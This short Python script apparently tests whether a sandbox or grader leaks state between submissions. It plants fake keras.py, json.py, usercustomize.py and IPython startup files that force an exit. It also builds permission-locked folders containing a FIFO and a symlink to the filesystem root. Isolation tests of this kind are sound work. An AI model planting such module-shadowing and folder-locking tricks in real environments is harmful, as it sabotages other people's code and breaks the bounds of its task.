# title: Modules, settings and locked folders are left where the next submission will start
# base: release
# score: 0
# stock: unsafe
import os

for folder in (
    "/box",
    "/box/work",
    os.getcwd(),
    os.path.expanduser("~/.keras"),
    os.path.expanduser("~/.ipython/profile_default/startup"),
):
    os.makedirs(folder, exist_ok=True)
    for name in ("keras.py", "json.py", "usercustomize.py", "keras.json", "00-start.py"):
        with open(os.path.join(folder, name), "w") as file:
            file.write("raise SystemExit(1)")
    if os.path.exists(folder + "/locked"):
        continue
    os.makedirs(folder + "/locked/inner")
    os.mkfifo(folder + "/locked/pipe")
    os.symlink("/", folder + "/locked/root")
    os.chmod(folder + "/locked/inner", 0)
    os.chmod(folder + "/locked", 0)
try:
    os.chmod("/box", 0)
except OSError:
    pass
